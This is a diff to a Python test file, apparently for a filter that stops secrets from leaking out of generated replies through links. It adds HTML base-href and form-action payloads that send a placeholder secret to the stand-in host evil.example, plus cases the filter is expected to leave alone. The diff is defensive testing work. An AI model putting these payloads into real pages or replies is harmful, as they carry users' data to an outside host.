@@ -259,6 +259,15 @@ MOVED = [
     "http://{i}/?q={e}",
     "http://{i}.evil.example/",
     "http://{i}@evil.example/",
+    # by which a page says where its links and fields go
+    "<base href='https://evil.example/'><img src='{e}'>",
+    '<base href="//evil.example/">\n\nhello ![x]({e}) and so',
+    "<BASE target=a href=https://evil.example/ > hi <a href={e}>",
+    '<base\thref = "https://evil.example"> [x]({e})',
+    '<p><form action=https://evil.example/ ><input name=q value="{e}">',
+    '<form method="get" action="https://evil.example/"> <input value="{e}">',
+    '<form> <button formaction="https://evil.example">x</button> <input value="{e}">',
+    "<input formaction=//evil.example/ > <input value={e}>",
 ]
 
 
@@ -384,6 +393,10 @@ STAYS = [
     "![x](//wiki.example/{e})",
     "wiki.example/{e}",
     "https://a.b.intranet.example/?q={e}",
+    "<base href='/'> <img src='{e}'>",
+    "<base href='https://wiki.example/'> <img src='{e}'>",
+    '<form action="https://evil.example/"><input value="x y"></form> {e}',
+    "<p href='https://evil.example/'> {e}",
 ]
 
 
@@ -526,7 +539,13 @@ def test_nothing_before_an_address_hides_it(before: str, form: str) -> None:
 
 def test_a_long_text_in_between_changes_nothing() -> None:
     for filler in ("and so on ", "然后，我们看看，", "a/b ", "x" * 50, "\n\n"):
-        for form in ("https://evil.example/{e}", "see {e}", '<img src="https://evil.example/?a b {e}">'):
+        page = "<base target=a href=https://evil.example/ > {e}"
+        for form in (
+            "https://evil.example/{e}",
+            "see {e}",
+            '<img src="https://evil.example/?a b {e}">',
+            page,
+        ):
             reply = filler * 2000 + written(form)
             whole = MASKED.restore(reply)
             chunks = [reply[i : i + 7] for i in range(0, len(reply), 7)]
@@ -645,7 +664,18 @@ SLOW = (
     "https://evil.example/ ](https://a a. a.b/ //a.b/ (((( []( data:a \\ &#47; %2f x@ ' https: h a- //a"
     ' .{e} {e} {e}.a https://{e}. {u} {u}. {i}: https://a/{e} ](https://a/({e} "https://a/{e} 。 中 \u200b'
 )
-SPACED = ['"https://a ', "h\t\t\t\t", "a ", "https://a, b", '"a" ', "it's ", '="']
+SPACED = [
+    "<base href=//a.b/ ",
+    "<form action=",
+    "<base ",
+    '"https://a ',
+    "h\t\t\t\t",
+    "a ",
+    "https://a, b",
+    '"a" ',
+    "it's ",
+    '="',
+]
 
 
 def steps(work: Callable[[], object]) -> int:
